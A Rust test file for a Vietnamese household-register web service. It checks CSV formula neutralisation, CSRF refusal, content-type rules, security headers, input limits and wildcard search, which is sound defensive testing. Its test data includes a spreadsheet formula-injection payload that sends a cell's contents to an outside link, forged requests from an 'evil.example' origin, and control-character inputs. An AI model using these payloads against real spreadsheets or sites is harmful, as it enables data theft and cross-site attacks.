//! Requests from outside: exports a spreadsheet reads as text, cross-site
//! requests and forms without their token refused, JSON only as JSON, the
//! headers of every answer, and every input bounded with the field named.

use axum::http::{HeaderMap, Method, StatusCode, header};
use serde_json::{Value, json};

use super::{LEADER, OFFICIAL, TestApp, fields, form_token, rows, session_cookie};

/// The page at `path` as the browser holding `cookie` gets it.
async fn page(app: &TestApp, path: &str, cookie: &str) -> String {
    let (status, _, body) = app
        .raw(Method::GET, path, None, None, &[("cookie", cookie)])
        .await;
    assert_eq!(status, StatusCode::OK, "{path}");
    String::from_utf8(body).unwrap()
}

fn json_of(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).unwrap_or(Value::Null)
}

fn is_problem(headers: &HeaderMap) -> bool {
    headers[header::CONTENT_TYPE] == "application/problem+json"
}

const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://x\"&A1,\"Xem\")",
    "+84 thôn Bắc",
    "-1+1 xóm Đông",
    "@SUM(1,1) ngõ 3",
];

#[tokio::test]
async fn exports_write_formula_like_cells_as_text_and_read_them_back() {
    let app = TestApp::demo().await;
    let leader = app.login(LEADER).await;
    let official = app.login(OFFICIAL).await;
    let ids = rows(
        &app,
        "SELECT id FROM households WHERE team_id = 1 ORDER BY id LIMIT 4",
    )
    .await;
    for (id, address) in ids.iter().zip(FORMULAS) {
        let (status, body) = app
            .call(
                Method::PATCH,
                &format!("/api/v1/households/{}", id[0]),
                Some(&leader),
                Some(json!({ "address": address })),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }

    // The register: every formula-like address written as text.
    let (status, _, register) = app
        .raw(
            Method::GET,
            "/api/v1/teams/1/register.csv",
            Some(&leader),
            None,
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(&register[3..]);
    let headers = reader.headers().unwrap().clone();
    let address = headers.iter().position(|h| h == "Địa chỉ").unwrap();
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[address].to_owned())
        .collect();
    for formula in FORMULAS {
        assert!(
            cells.contains(&format!("'{formula}")),
            "{formula} is written as text"
        );
    }
    for record in csv::Reader::from_reader(&register[3..]).records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "no cell a spreadsheet reads as a formula: {cell:?}"
            );
        }
    }
    // Imported again, the register changes nothing: the quote comes off.
    let (status, _, report) = app
        .raw_body(
            Method::POST,
            "/api/v1/teams/1/imports",
            "text/csv",
            register.clone(),
            &[("authorization", &format!("Bearer {leader}"))],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{}", json_of(&report));
    for (id, formula) in ids.iter().zip(FORMULAS) {
        let stored = rows(
            &app,
            &format!("SELECT address FROM households WHERE id = {}", id[0]),
        )
        .await;
        assert_eq!(stored[0][0], formula);
    }

    // The officials' unmet households.
    let (_, me) = app
        .call(Method::GET, "/api/v1/me", Some(&official), None)
        .await;
    let area = me["area_id"].as_i64().unwrap();
    let (status, _, unmet) = app
        .raw(
            Method::GET,
            &format!("/api/v1/areas/{area}/unmet?format=csv"),
            Some(&official),
            None,
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let records: Vec<csv::StringRecord> = csv::Reader::from_reader(&unmet[3..])
        .records()
        .map(Result::unwrap)
        .collect();
    let mut quoted = 0;
    for record in &records {
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell:?}"
            );
        }
        if FORMULAS.iter().any(|f| record[1] == format!("'{f}")) {
            quoted += 1;
        }
    }
    assert!(quoted > 0, "the unmet list holds the quoted addresses");
}

#[tokio::test]
async fn cross_site_requests_and_forms_without_their_token_are_refused() {
    let app = TestApp::demo_with_calendars().await;
    let leader = app.login(LEADER).await;
    let cookie = session_cookie(&app, LEADER).await;
    let (status, plan) = app
        .call(
            Method::POST,
            "/api/v1/teams/1/plans",
            Some(&leader),
            Some(json!({"start": super::today().to_string(), "days": 3, "iterations": 2000})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{plan}");
    let publish = format!("/plans/{}/cong-bo", plan["id"]);
    let token = form_token(&page(&app, "/teams/1/lich", &cookie).await);
    let form = format!("csrf={token}");
    let evil = [
        ("origin", "https://evil.example"),
        ("host", "doorstep.example"),
    ];
    let cross = [("sec-fetch-site", "cross-site")];

    // Another site's page posts the forms, with the victim's cookie and
    // even with a token it somehow knew.
    for (path, extra) in [
        (publish.as_str(), &evil[..]),
        (publish.as_str(), &cross[..]),
        ("/dang-xuat", &evil[..]),
        ("/dang-nhap", &cross[..]),
        ("/api/v1/teams/1/calendar/rotate", &evil[..]),
        ("/api/v1/auth/logout", &cross[..]),
    ] {
        let mut headers = vec![("cookie", cookie.as_str())];
        headers.extend_from_slice(extra);
        let (status, answer, body) = app
            .raw_body(
                Method::POST,
                path,
                "application/x-www-form-urlencoded",
                form.clone().into_bytes(),
                &headers,
            )
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path} {extra:?}");
        assert!(is_problem(&answer), "{path}");
        assert_eq!(json_of(&body)["code"], "cross_site", "{path}");
    }
    // Sign-in from another site, without any cookie.
    let (status, _, body) = app
        .raw_body(
            Method::POST,
            "/api/v1/auth/login",
            "application/json",
            json!({"username": LEADER, "password": "doorstep-demo"})
                .to_string()
                .into_bytes(),
            &evil,
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(
        json_of(&body)["detail"]
            .as_str()
            .unwrap()
            .contains("trang web khác")
    );
    let plan_now = app
        .call(
            Method::GET,
            &format!("/api/v1/plans/{}", plan["id"]),
            Some(&leader),
            None,
        )
        .await
        .1;
    assert_eq!(plan_now["status"], "draft", "nothing was published");

    // A client with a bearer token and no cookie is no browser: an Origin
    // does not stop it.
    let (status, _, body) = app
        .raw(
            Method::POST,
            "/api/v1/teams/1/calendar/rotate",
            Some(&leader),
            None,
            &evil,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{}", json_of(&body));

    // The same site: a form without its token is refused, with it it works.
    let same = [
        ("origin", "http://doorstep.example"),
        ("host", "doorstep.example"),
    ];
    let mut headers = vec![("cookie", cookie.as_str())];
    headers.extend_from_slice(&same);
    let (status, _, body) = app
        .raw_body(
            Method::POST,
            &publish,
            "application/x-www-form-urlencoded",
            b"csrf=0000".to_vec(),
            &headers,
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let body = String::from_utf8(body).unwrap();
    assert!(
        body.contains("biểu mẫu đã cũ") && !body.contains("stale"),
        "{body}"
    );
    let (status, answer, _) = app
        .raw_body(
            Method::POST,
            &publish,
            "application/x-www-form-urlencoded",
            form.clone().into_bytes(),
            &headers,
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert!(
        answer[header::LOCATION]
            .to_str()
            .unwrap()
            .contains("cong_bo=")
    );

    // Sign-out: without the token the session lives on; with it, it ends.
    let (status, _, _) = app
        .raw_body(
            Method::POST,
            "/dang-xuat",
            "application/x-www-form-urlencoded",
            Vec::new(),
            &[("cookie", &cookie)],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _, _) = app
        .raw(
            Method::GET,
            "/api/v1/me",
            None,
            None,
            &[("cookie", &cookie)],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "still signed in");
    let token = form_token(&page(&app, "/teams/1", &cookie).await);
    let (status, _, _) = app
        .raw_body(
            Method::POST,
            "/dang-xuat",
            "application/x-www-form-urlencoded",
            format!("csrf={token}").into_bytes(),
            &[("cookie", &cookie)],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (status, _, _) = app
        .raw(
            Method::GET,
            "/api/v1/me",
            None,
            None,
            &[("cookie", &cookie)],
        )
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "signed out");

    // The sign-in form needs its own cookie and token.
    let (status, _, _) = app
        .raw_body(
            Method::POST,
            "/dang-nhap",
            "application/x-www-form-urlencoded",
            format!("username={LEADER}&password=doorstep-demo").into_bytes(),
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, answer, html) = app.raw(Method::GET, "/dang-nhap", None, None, &[]).await;
    let form_cookie = answer[header::SET_COOKIE].to_str().unwrap().to_owned();
    assert!(form_cookie.contains("SameSite=Strict") && form_cookie.contains("HttpOnly"));
    let form_cookie = form_cookie.split(';').next().unwrap().to_owned();
    let token = form_token(&String::from_utf8(html).unwrap());
    let (status, answer, _) = app
        .raw_body(
            Method::POST,
            "/dang-nhap",
            "application/x-www-form-urlencoded",
            format!("username={LEADER}&password=doorstep-demo&csrf={token}").into_bytes(),
            &[("cookie", &form_cookie)],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert!(
        answer[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .starts_with("doorstep_session=")
    );
}

#[tokio::test]
async fn json_endpoints_take_json_only_and_the_import_csv_only() {
    let app = TestApp::demo().await;
    let leader = app.login(LEADER).await;
    let bearer = format!("Bearer {leader}");
    let plan = json!({"start": super::today().to_string(), "days": 3}).to_string();
    for (path, kind, body) in [
        ("/api/v1/teams/1/plans", "text/plain", plan.as_str()),
        (
            "/api/v1/teams/1/plans",
            "application/x-www-form-urlencoded",
            plan.as_str(),
        ),
        (
            "/api/v1/auth/login",
            "text/plain",
            "{\"username\":\"a\",\"password\":\"b\"}",
        ),
        (
            "/api/v1/teams/1/calendar/replan",
            "text/plain",
            "{\"days\": 3}",
        ),
        (
            "/api/v1/teams/1/imports",
            "text/plain",
            "Mã hộ,Mã nhân khẩu\n",
        ),
        ("/api/v1/teams/1/imports", "application/json", "{}"),
    ] {
        let (status, headers, bytes) = app
            .raw_body(
                Method::POST,
                path,
                kind,
                body.as_bytes().to_vec(),
                &[("authorization", &bearer)],
            )
            .await;
        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{path} {kind}");
        assert!(is_problem(&headers));
        let problem = json_of(&bytes);
        assert_eq!(problem["code"], "unsupported_media_type");
        assert_eq!(fields(&problem), ["Content-Type"], "{problem}");
        let message = problem["errors"][0]["message"].as_str().unwrap();
        assert!(message.contains(kind), "what was sent: {message}");
    }
    // No body at all needs no type.
    let (status, _) = app
        .call(Method::POST, "/api/v1/auth/logout", Some(&leader), None)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn every_answer_carries_the_safety_headers() {
    let app = TestApp::demo().await;
    let leader = app.login(LEADER).await;
    let cookie = session_cookie(&app, LEADER).await;
    for (path, auth) in [
        ("/dang-nhap", None),
        ("/teams/1", Some(("cookie", cookie.as_str()))),
        (
            "/api/v1/teams/1/households",
            Some(("authorization", "bearer")),
        ),
        ("/api/v1/me", None),
        ("/healthz", None),
        ("/no/such/page", None),
    ] {
        let bearer = format!("Bearer {leader}");
        let headers: Vec<(&str, &str)> = match auth {
            Some(("authorization", _)) => vec![("authorization", bearer.as_str())],
            Some(pair) => vec![pair],
            None => Vec::new(),
        };
        let (_, answer, body) = app.raw(Method::GET, path, None, None, &headers).await;
        assert_eq!(answer["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(answer["referrer-policy"], "same-origin", "{path}");
        let policy = answer["content-security-policy"].to_str().unwrap();
        for part in [
            "default-src 'self'",
            "frame-ancestors 'none'",
            "form-action 'self'",
        ] {
            assert!(policy.contains(part), "{path}: {policy}");
        }
        assert!(!policy.contains("unsafe-inline"), "{policy}");
        assert_eq!(answer["cache-control"], "no-store", "{path}");
        let body = String::from_utf8(body).unwrap();
        assert!(
            !body.contains("<style") && !body.contains("style="),
            "{path}: nothing inline for the policy to refuse"
        );
        super::assert_only_own_scripts(path, &body);
    }
    // The pages' stylesheet is doorstep's own file, kept by the browser.
    let html = page(&app, "/teams/1", &cookie).await;
    assert!(html.contains("<link rel=\"stylesheet\" href=\"/assets/doorstep.css\">"));
    let (status, answer, css) = app
        .raw(Method::GET, "/assets/doorstep.css", None, None, &[])
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(answer["content-type"], "text/css; charset=utf-8");
    assert_eq!(answer["cache-control"], "public, max-age=3600");
    assert!(String::from_utf8(css).unwrap().contains("body{"));

    // The session cookie is Secure when the setting says so; not otherwise.
    assert!(!cookie.contains("Secure"));
    let mut state = doorstep_api::AppState::new(app.store.clone());
    state.secure_cookie = true;
    state.clock = app.clock.clone();
    let secure = doorstep_api::router(state);
    let send = |request: axum::http::Request<axum::body::Body>| {
        let secure = secure.clone();
        async move {
            tower::ServiceExt::oneshot(secure, request)
                .await
                .unwrap()
                .headers()
                .clone()
        }
    };
    let login = json!({"username": LEADER, "password": doorstep_demo::DEMO_PASSWORD});
    let answer = send(
        axum::http::Request::post("/api/v1/auth/login")
            .header("content-type", "application/json")
            .body(login.to_string().into())
            .unwrap(),
    )
    .await;
    let set = answer[header::SET_COOKIE].to_str().unwrap();
    assert!(
        set.ends_with("; Secure") && set.contains("HttpOnly"),
        "{set}"
    );
    let answer = send(
        axum::http::Request::get("/dang-nhap")
            .body(axum::body::Body::empty())
            .unwrap(),
    )
    .await;
    assert!(
        answer[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .contains("; Secure")
    );
}

#[tokio::test]
async fn every_bound_is_refused_with_the_field_named() {
    let app = TestApp::demo().await;
    let leader = app.login(LEADER).await;

    // Plans at the edges of the lunar calendar (1800–2199).
    for (start, days) in [
        ("1800-01-01", 7),
        ("2199-12-31", 7),
        ("2199-12-20", 28),
        ("2200-01-01", 1),
    ] {
        let (status, body) = app
            .call(
                Method::POST,
                "/api/v1/teams/1/plans",
                Some(&leader),
                Some(json!({"start": start, "days": days, "iterations": 2000})),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{start}: {body}");
        assert_eq!(fields(&body), ["start"], "{start}: {body}");
    }

    // JSON over 2 MB: 413, as problem details.
    let big = format!(
        "{{\"start\": \"{}\", \"days\": 3}}",
        " ".repeat(3 * 1024 * 1024)
    );
    let (status, headers, bytes) = app
        .raw_body(
            Method::POST,
            "/api/v1/teams/1/plans",
            "application/json",
            big.into_bytes(),
            &[("authorization", &format!("Bearer {leader}"))],
        )
        .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(is_problem(&headers));
    let problem = json_of(&bytes);
    assert_eq!(problem["code"], "too_large");
    assert!(
        problem["detail"].as_str().unwrap().contains("2 MB"),
        "{problem}"
    );
    // A register over 32 MB.
    let (status, headers, bytes) = app
        .raw_body(
            Method::POST,
            "/api/v1/teams/1/imports",
            "text/csv",
            vec![b'a'; 33 * 1024 * 1024],
            &[("authorization", &format!("Bearer {leader}"))],
        )
        .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(is_problem(&headers));
    assert!(
        json_of(&bytes)["detail"]
            .as_str()
            .unwrap()
            .contains("32 MB")
    );
    // A method a path does not take: 405 with Allow, as problem details.
    let (status, headers, bytes) = app
        .raw(Method::GET, "/api/v1/auth/login", None, None, &[])
        .await;
    assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED);
    assert!(is_problem(&headers));
    assert_eq!(headers[header::ALLOW], "POST");
    let problem = json_of(&bytes);
    assert_eq!(problem["code"], "method_not_allowed");
    let detail = problem["detail"].as_str().unwrap();
    assert!(
        detail.contains("không nhận GET") && detail.contains("Allow"),
        "{problem}"
    );
    let (status, _, bytes) = app
        .raw(
            Method::DELETE,
            "/api/v1/teams/1",
            Some(&leader),
            None,
            &[("accept-language", "en")],
        )
        .await;
    assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED);
    assert!(
        json_of(&bytes)["detail"]
            .as_str()
            .unwrap()
            .contains("does not take DELETE")
    );

    // Texts: long, or with control characters.
    let long = "x".repeat(200_000);
    let (status, body) = app
        .call(
            Method::POST,
            "/api/v1/teams/1/blackouts",
            Some(&leader),
            Some(json!({"label": long, "dates": ["2026-12-10", "2026-12-12"]})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(fields(&body), ["label"]);
    assert!(
        body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("tối đa 200 ký tự, nhận 200000")
    );
    let (status, body) = app
        .call(
            Method::POST,
            "/api/v1/teams/1/blackouts",
            Some(&leader),
            Some(json!({"label": "bão\u{0}số 3", "dates": ["2026-12-10", "2026-12-12"]})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(fields(&body), ["label"]);
    assert!(
        body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("U+0000")
    );
    let household =
        rows(&app, "SELECT id FROM households WHERE team_id = 1 LIMIT 1").await[0][0].clone();
    let resident = rows(
        &app,
        &format!("SELECT id FROM residents WHERE household_id = {household} LIMIT 1"),
    )
    .await[0][0]
        .clone();
    for (path, body, field) in [
        (
            format!("/api/v1/households/{household}"),
            json!({"address": "a".repeat(301)}),
            "address",
        ),
        (
            format!("/api/v1/households/{household}"),
            json!({"address": "Số 1\u{1b}[2J"}),
            "address",
        ),
        (
            format!("/api/v1/residents/{resident}"),
            json!({"full_name": "Lan\u{0}"}),
            "full_name",
        ),
        (
            format!("/api/v1/residents/{resident}"),
            json!({"full_name": "L".repeat(121)}),
            "full_name",
        ),
        (
            format!("/api/v1/residents/{resident}"),
            json!({"full_name": "Lê\nLan"}),
            "full_name",
        ),
    ] {
        let (status, answer) = app
            .call(Method::PATCH, &path, Some(&leader), Some(body))
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {answer}");
        assert_eq!(fields(&answer), [field], "{answer}");
    }
    let stored = rows(
        &app,
        &format!("SELECT full_name FROM residents WHERE id = {resident}"),
    )
    .await;
    assert!(!stored[0][0].contains('\u{0}'));

    // A cron that never fires.
    let (status, body) = app
        .call(
            Method::PUT,
            "/api/v1/teams/1/mail/schedules/daily",
            Some(&leader),
            Some(json!({"cron": "0 0 6 31 2 *"})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(fields(&body), ["cron"]);
    assert!(
        body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("không có lần gửi nào trong một năm tới")
    );
}

#[tokio::test]
async fn a_search_for_wildcards_finds_them_as_written() {
    let app = TestApp::demo().await;
    let leader = app.login(LEADER).await;
    let id = rows(
        &app,
        "SELECT id FROM households WHERE team_id = 1 ORDER BY id LIMIT 1",
    )
    .await[0][0]
        .clone();
    let (status, _) = app
        .call(
            Method::PATCH,
            &format!("/api/v1/households/{id}"),
            Some(&leader),
            Some(json!({"address": "Lô 5_6, 100% đất cảng"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    for q in ["_", "%25"] {
        let (status, page) = app
            .call(
                Method::GET,
                &format!("/api/v1/teams/1/households?q={q}"),
                Some(&leader),
                None,
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{q}: {page}");
        let found = page["households"].as_array().unwrap();
        assert_eq!(found.len(), 1, "{q} finds the one household that holds it");
        assert_eq!(found[0]["id"].to_string(), id);
    }
    let (_, page) = app
        .call(
            Method::GET,
            "/api/v1/teams/1/households?q=__",
            Some(&leader),
            None,
        )
        .await;
    assert!(page["households"].as_array().unwrap().is_empty());
}
